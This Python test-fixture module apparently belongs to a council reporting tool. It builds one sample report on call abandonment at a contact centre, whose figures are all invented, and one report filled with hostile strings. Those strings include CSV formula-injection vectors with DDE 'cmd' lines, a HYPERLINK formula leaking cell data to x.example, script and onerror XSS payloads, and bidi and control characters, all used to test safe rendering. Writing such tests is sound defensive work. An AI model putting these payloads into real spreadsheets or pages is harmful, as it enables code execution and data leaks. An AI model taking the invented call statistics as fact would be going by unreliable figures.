"""Two reports to write: one as a council would get it, all of it invented, and one whose every text means harm."""

from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import polars as pl

from kcas.evidence.document import (
    Basis,
    Block,
    Bullets,
    Column,
    Document,
    Figure,
    Kind,
    Paragraph,
    Section,
    Shorthand,
    Table,
)
from kcas.reporting import charts
from kcas.reporting.palettes import LIGHT

INJECTIONS = (
    "=1+1", '=HYPERLINK("http://x.example/?"&A1)', "=cmd|'/C calc'!A0", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "Desk; =1+1", 'a",=1+1',
)  # fmt: skip
"""The cells of `csv_injection_vectors`, as OWASP lists their beginnings."""
HOSTILE = (
    *INJECTIONS,
    "{=SUM(A1:A9)}",
    "of:=1+1",
    "http://x.example/",
    "mailto:a@x.example",
    "internal:'Cover'!A1",
    "[press](http://x.example/)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style></table></svg><b>bold</b>",
    "]]><!-- & &amp; &#0; <?xml version='1.0'?>",
    "$$note$$ **bold** _x_ `code` # heading",
    '#set text(red)\n#panic("x") $x^2$ @ref <label> \\ #sys.inputs',
    "_x0041_ {{7*7}} ${x} %s {0}",
    "left\u202eright\u202c \u2067shalom\u2069 שלום مرحبا",
    "😀 👩‍👩‍👧 e\u0301 日本語 \ufeff",
    "nul\x00 bell\x07 escape\x1b delete\x7f next\x85 none\uffff\U0001ffff",
    "lone\ud800surrogate",
    "'apostrophe first",
    "=" * 300,
    "W" * 10_000,
    "",
    "   ",
)


def basis(*, model: bool = False, text: str = "") -> Basis:
    """What the invented figures rest on."""
    return Basis(
        definition="all_offered",
        words="calls abandoned, those while a telephone rang included, of calls offered less those still open" + text,
        period="1 January to 27 June 2010" + text,
        hours="every hour of every day" + text,
        cut_off="28 June 2010, 06:00" + text,
        version="0.1.0",
        run="5f3a9c" + text,
        source=("scenarios/today.toml, 1,000 simulated days" if model else "25 logs of the switch") + text,
        model=model,
    )


def weeks() -> Table:
    """A made-up rate, week by week."""
    rows: list[tuple[Any, ...]] = []
    for n in range(25):
        offered, lost = 1150 + 37 * (n % 7), 232 - 4 * n + 11 * (n % 3)
        monday = (date(2010, 1, 4) + timedelta(weeks=n)).isoformat()
        rows.append((monday, offered, lost, lost / offered, (lost / offered - 0.19), 93.4 + n))
    rows.append(("2010-06-28", Shorthand.CONFIDENTIAL, Shorthand.CONFIDENTIAL, Shorthand.NOT_AVAILABLE,
                 Shorthand.NOT_APPLICABLE, Shorthand.NOT_AVAILABLE))  # fmt: skip
    columns = (
        Column("Week beginning", Kind.DAY),
        Column("Calls offered", Kind.COUNT),
        Column("Calls abandoned", Kind.COUNT),
        Column("Share abandoned", Kind.SHARE),
        Column("Against the year before", Kind.POINTS),
        Column("Longest wait", Kind.SECONDS),
    )
    return Table("weeks", "Calls offered and abandoned in each week of 2010", columns, tuple(rows), basis(),
                 notes=("The last week is not complete.", "Bank holidays count as any other day."))  # fmt: skip


def apart() -> Table:
    """What a model says of three options, each alone."""
    columns = (
        Column("Option"),
        Column("Calls abandoned a day", Kind.COUNT),
        Column("Share abandoned", Kind.SHARE),
        Column("Difference from today", Kind.POINTS),
        Column("Mean wait", Kind.SECONDS),
        Column("Agents busy", Kind.NUMBER),
    )
    rows = (
        ("The desk as it was", 41.2, 0.2103, Shorthand.NOT_APPLICABLE, 143.0, 11.42),
        ("Wider assessment work given up", 28.7, 0.1466, -0.0637, 97.2, 10.9),
        ("The new telephone system", 33.9, 0.1731, -0.0372, 120.9, 11.1),
        ("Two more agents from 10:00 to 15:00", 25.1, 0.1281, -0.0822, 80.4, 10.3),
    )
    return Table("model-apart", "What each action would do alone", columns, rows, basis(model=True),
                 notes=("Each row changes one thing and leaves the rest as it was.",))  # fmt: skip


def days() -> Table:
    """A table too long for the narrative."""
    rows = tuple((str(date(2010, 1, 1) + timedelta(days=n)), 160 + n % 50, 20 + n % 17) for n in range(178))
    columns = (Column("Day", Kind.DAY), Column("Calls offered", Kind.COUNT), Column("Calls abandoned", Kind.COUNT))
    return Table("days", "Calls offered and abandoned on each day", columns, rows, basis(), inline=False)


def rate_chart(rows: Table) -> dict[str, Any]:
    """The weeks' rate, drawn as the dashboard draws it."""
    kept = [row for row in rows.rows if isinstance(row[3], float)]
    frame = pl.DataFrame(
        {
            "day": [date.fromisoformat(str(row[0])) for row in kept],
            "rate": [row[3] for row in kept],
            "low": [float(row[3]) - 0.02 for row in kept],
            "high": [float(row[3]) + 0.02 for row in kept],
        }
    ).with_columns(when=pl.col("day").cast(pl.String), halves=pl.lit(""), rate_text=pl.lit(""),
                   interval_text=pl.lit(""))  # fmt: skip
    drawn: dict[str, Any] = charts.daily_rate(frame, palette=LIGHT, target=0.05).to_dict()
    return drawn


def report() -> Document:
    """A report as a council would get it, every figure of it invented."""
    observed, model = weeks(), apart()
    figure = Figure("rate", "Share of calls abandoned in each week of 2010", rate_chart(observed),
                    "The share fell from about 20% in January to about 11% in June, in 25 weeks.", "weeks",
                    basis())  # fmt: skip
    bars = {
        "data": {"values": [{"option": str(row[0]), "share": row[2]} for row in model.rows]},
        "mark": {"type": "bar", "color": LIGHT.answered},
        "encoding": {
            "y": {"field": "option", "type": "nominal", "title": None, "sort": None, "axis": {"labelLimit": 0}},
            "x": {"field": "share", "type": "quantitative", "title": "Share abandoned", "axis": {"format": ".0%"}},
        },
    }
    second = Figure("apart", "What each action would do alone", bars,
                    "Two more agents at midday would help most: 12.8% against 21.0%.", "model-apart",
                    basis(model=True))  # fmt: skip
    blocks: tuple[Block, ...] = (Paragraph("The share of calls abandoned fell through the spring."), figure, observed)
    return Document(
        title="Recommendation 10: calls abandoned at the contact centre",
        subtitle="What was done, what was observed, and what a model says each action would do",
        desk="Kent Contact and Assessment Service",
        made="2010-06-28T06:00:00+01:00",
        public=True,
        sentences=(
            "In the week of 21 June 2010, 147 of 1,261 calls were abandoned: 11.7%.",
            "In the first week of the year it was 232 of 1,150: 20.2%.",
            "The share is lower than before April 2010, by 5.1 to 8.3 percentage points.",
            "Verdict: lower.",
            "Counted by the definition all_offered.",
        ),
        sections=(
            Section("How the rate has moved", blocks, (
                Section("By day", (Paragraph("Each day is in the spreadsheets."), days())),
            )),
            Section("What each action would do", (
                Paragraph("The actions overlapped. A model can take them one at a time; the logs cannot."),
                Bullets(("Wider assessment work was given up on 1 April.", "The telephone system changed on 10 May.")),
                second, model,
            )),
        ),
        notes=("Rates are never averaged: counts are added, and rates are made last.",),
        shorthands=(
            (Shorthand.CONFIDENTIAL, "confidential: a count from 1 to 4, or one that would give it away"),
            (Shorthand.NOT_AVAILABLE, "not available"),
            (Shorthand.NOT_APPLICABLE, "not applicable"),
        ),
        invented=True,
    )  # fmt: skip


def hostile() -> Document:
    """A report in which every text that could come from a log or a file means harm."""
    bad = HOSTILE[0] + " <script>alert(1)</script> #panic() $$x$$ ]]> \x00\u202e😀 " + "\ud800"
    rows = tuple((text, text, n, n / 100, Shorthand.REVISED) for n, text in enumerate(HOSTILE))
    columns = (
        Column("=1+1"), Column("<b>text</b> $$x$$ " + "H" * 300), Column("=1+1", Kind.COUNT),
        Column("\x00share", Kind.SHARE), Column("", Kind.NUMBER),
    )  # fmt: skip
    beneath = basis(text=bad)
    table = Table("hostile", "=2+2 [x]:*?/\\ " + bad, columns, rows, beneath, notes=HOSTILE)
    model = replace(table, key="hostile-model", basis=replace(beneath, model=True), title="=2+2 [x]:*?/\\ " + bad)
    chart = {
        "title": bad,
        "data": {"values": [{"name": text, "n": n} for n, text in enumerate(HOSTILE)]},
        "mark": "bar",
        "encoding": {"y": {"field": "name", "type": "nominal"}, "x": {"field": "n", "type": "quantitative"}},
    }
    figure = Figure("hostile", bad, chart, bad, "hostile", beneath)
    blocks: tuple[Block, ...] = (*(Paragraph(text) for text in HOSTILE), Bullets(HOSTILE), figure, table, model)
    return Document(
        title=bad, subtitle=bad, desk=bad, made="2010-06-28T06:00:00+01:00", public=False, sentences=HOSTILE[:5],
        sections=(Section(bad, blocks, (Section("@ref <label>", (), (Section(bad),)),)),), notes=HOSTILE,
        shorthands=((Shorthand.REVISED, bad),),
    )  # fmt: skip
